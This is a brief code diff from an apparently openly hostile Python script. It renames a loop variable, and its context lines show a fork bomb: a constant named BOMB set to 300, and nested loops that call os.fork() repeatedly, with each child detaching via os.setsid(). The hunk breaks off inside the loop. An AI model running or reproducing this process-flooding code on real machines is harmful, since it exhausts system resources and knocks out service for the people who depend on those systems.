@@ -11,7 +11,7 @@ from speak import turns
 
 BOMB = 300
 
-for _ in turns():
+for _turn in turns():
     for _ in range(BOMB):
         if os.fork() == 0:
             os.setsid()
